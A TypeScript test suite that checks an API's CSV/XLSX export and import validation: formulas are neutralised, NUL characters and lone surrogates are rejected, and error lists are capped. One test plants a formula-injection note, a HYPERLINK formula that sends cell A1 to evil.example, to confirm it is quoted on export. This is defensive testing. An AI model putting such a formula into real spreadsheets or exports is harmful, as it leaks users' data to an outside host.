/**
 * Exports carry no formula and every door applies one text rule. Before: an editor's note `=HYPERLINK(…)` went
 * verbatim into export.csv; NUL came in through YAML `"\0"`, a CSV cell and XLSX `_x0000_` (a 500 on
 * PostgreSQL); a 5 MB CSV produced a 187 MB error body.
 */

import { json, makeApp, type TestApp, workbook } from '@grdp/api/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

let t: TestApp;
beforeAll(async () => {
  t = await makeApp();
});
afterAll(async () => t.close());

const SCEN = '/api/scenarios/an-giang-2023';
const IMPORT = `${SCEN}/actuals/import`;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const csv = (text: string) =>
  t.as(t.editor, {
    method: 'POST',
    url: IMPORT,
    payload: Buffer.from(text, 'utf8'),
    headers: { 'content-type': 'text/csv' },
  });

describe('no export carries a formula', () => {
  const evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
  beforeAll(async () => {
    const r = await t.as(t.editor, {
      method: 'PUT',
      url: `${SCEN}/actuals/Q3`,
      payload: { values: { total: -3.5 }, vintage: 'estimate', note: evil },
    });
    expect(r.statusCode, r.body).toBeLessThan(300);
  });

  it.each(['vi', 'en'])(
    'export.csv (%s): the note gets a leading quote, the negative number stays a number',
    async (lang) => {
      const r = await t.app.inject({ url: `${SCEN}/export.csv?lang=${lang}` });
      expect(r.statusCode).toBe(200);
      expect(r.body).not.toMatch(/(^|[;,\n])"?=HYPERLINK/);
      expect(r.body).toContain(`'=HYPERLINK`);
      expect(r.body).toMatch(lang === 'vi' ? /[;]-3,5[;]/ : /,-3\.5,/);
    },
  );

  it('export.xlsx: the note is text with a leading quote, the value a number', async () => {
    const r = await t.app.inject({ url: `${SCEN}/export.xlsx?lang=en` });
    expect(r.statusCode).toBe(200);
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const cells: unknown[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => cells.push(c.value))));
    expect(cells).toContain(`'${evil}`);
    expect(cells).not.toContain(evil);
    expect(cells).toContain(-3.5);
  });
});

describe('one text rule at every door', () => {
  it('a NUL inside a CSV cell: 400 naming the row and the column', async () => {
    const r = await csv('Kỳ;Chỉ tiêu;Tăng trưởng (%);Loại số liệu;Ghi chú\nQuý I;total;6,5;ước tính;a\u0000b\n');
    expect(r.statusCode).toBe(400);
    const body = json(r) as { errors: { row: number; column: string; reason: string }[] };
    expect(body.errors).toContainEqual({
      row: 2,
      column: 'Ghi chú',
      reason: 'a NUL character (U+0000) at character 2',
    });
  });

  it('a NUL in an XLSX cell (stored as _x0000_): 400 naming the row and the column', async () => {
    const file = await workbook([
      ['period', 'key', 'growth_pct', 'vintage', 'note'],
      ['Q1', 'total', 6.5, 'estimate', 'a_x0000_b'],
    ]);
    const r = await t.as(t.editor, { method: 'POST', url: IMPORT, payload: file, headers: { 'content-type': XLSX } });
    expect(r.statusCode, r.body).toBe(400);
    expect(r.body).toMatch(/NUL character/);
  });

  it('a lone surrogate in JSON: 400 BAD_ENCODING at its path', async () => {
    const r = await t.as(t.editor, {
      method: 'PUT',
      url: `${SCEN}/actuals/Q2`,
      payload: '{"values":{"total":5},"vintage":"estimate","note":"x\\ud800"}',
      headers: { 'if-match': '*', 'content-type': 'application/json' },
    });
    expect(r.statusCode).toBe(400);
    expect(json(r)).toMatchObject({ code: 'BAD_ENCODING', path: 'body.note' });
    expect(json(r).message).toMatch(/lone UTF-16 surrogate/);
  });

  it('a YAML "\\0" escape in a scenario: 400 SCENARIO_BAD_TEXT with the line', async () => {
    const r = await t.app.inject({
      method: 'POST',
      url: '/api/evaluate',
      payload: 'id: x-2024\ntitle: {vi: a, en: b}\nregion: "A\\0"\nyear: 2024\nsource: s\nsectors: []\ntargets: {}\n',
      headers: { 'content-type': 'application/yaml' },
    });
    expect(r.statusCode).toBe(400);
    expect(json(r)).toMatchObject({ code: 'SCENARIO_BAD_TEXT', path: 'region' });
  });
});

describe('import error lists are capped', () => {
  it('5,000 bad rows: the first 100 are listed and the message gives the total', async () => {
    const rows = Array.from({ length: 5000 }, () => 'Quý IX;total;abc;ước tính;').join('\n');
    const r = await csv(`Kỳ;Chỉ tiêu;Tăng trưởng (%);Loại số liệu;Ghi chú\n${rows}\n`);
    expect(r.statusCode).toBe(400);
    const body = json(r) as { message: string; errors: unknown[] };
    expect(body.errors).toHaveLength(100);
    expect(body.message).toMatch(/^10000 problems in the file \(the first 100 are listed\)/);
    expect(r.body.length).toBeLessThan(50_000);
  });
});
